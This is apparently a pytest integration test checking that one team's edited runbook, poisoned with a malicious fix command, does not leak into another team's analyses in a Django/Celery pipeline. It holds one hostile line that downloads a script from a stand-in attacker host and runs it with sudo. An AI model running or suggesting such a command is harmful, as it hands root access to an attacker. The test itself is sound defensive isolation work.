"""Runbook governance through the real pipeline: team Other's overlay of a
shipped runbook (a poisoned fix command, issue 17) is used by the Celery
worker for Other's analyses only; team Ops' analysis of the same bundle,
uploaded and read through the token API, reports the shipped fixes.
Real Redis, a real prefork worker (tests/celery_harness.py)."""

from __future__ import annotations

import io
import tarfile

import pytest
from django.test import Client

from tests.celery_harness import cast, pipeline, shared_db, wait_for  # noqa: F401  (fixtures)
from tests.helpers import SEED_BUNDLES

pytestmark = [pytest.mark.celery, pytest.mark.timeout(240)]

SEED = SEED_BUNDLES / "001-flink-checkpoint-hdfs-not-enough-replicas"
SLUG = "hdfs-close-not-enough-replicas"
EVIL = "curl -s http://evil.example/fix.sh | sudo bash"

# The worker rig and the cast (tests/celery_harness.py: pipeline, cast).
RIG = {"engine": "local", "concurrency": 1}
CAST_PREFIX = "g"


def _seed_tgz() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        tar.add(SEED, arcname=SEED.name, filter=lambda ti: None if ti.name.endswith("expected.json") else ti)
    return buf.getvalue()


def _upload_and_wait(client: Client, token: str, pipeline) -> dict:
    f = io.BytesIO(_seed_tgz())
    f.name = "checkpoint-failure.tar.gz"
    auth = {"HTTP_AUTHORIZATION": f"Bearer {token}"}
    response = client.post("/api/v1/analyses", {"file": f}, **auth)
    assert response.status_code == 202, response.content
    url = response.json()["url"]
    try:
        body = wait_for(lambda: (b := client.get(url, **auth).json())["status"] in ("done", "failed") and b,
                        90, 0.3, f"{url} to finish")
    except AssertionError as exc:
        raise AssertionError(f"{exc}\n{pipeline.worker.tail()}") from None
    assert body["status"] == "done", body["error"]
    return body["result"]


def _commands(result: dict) -> list[str]:
    (finding,) = [f for f in result["findings"] if f["runbook"] == SLUG]
    return [step.get("command") or "" for fix in finding["fix_steps"] for step in fix["steps"]]


def test_the_worker_analyses_each_team_with_its_own_catalog(pipeline, cast):
    from kb.models import Runbook
    from kb.selectors.catalog import viewer_team
    from kb.services.export import runbook_text
    from kb.services.governance import runbook_edit_save

    shipped = Runbook.objects.get(slug=SLUG)
    text = runbook_text(runbook=shipped)
    start = text.index("command: ") + len("command: ")
    poisoned = text[:start] + f'"{EVIL}"' + text[text.index("\n", start):]
    other = viewer_team(cast.mallory)
    assert runbook_edit_save(runbook=shipped, team=other, user=cast.mallory, text=poisoned) is not None

    client = Client()
    ops_result = _upload_and_wait(client, cast.alice_token, pipeline)
    other_result = _upload_and_wait(client, cast.mallory_token, pipeline)

    assert EVIL not in _commands(ops_result)
    assert EVIL in _commands(other_result)
    shipped.refresh_from_db()
    assert EVIL not in str(shipped.meta)
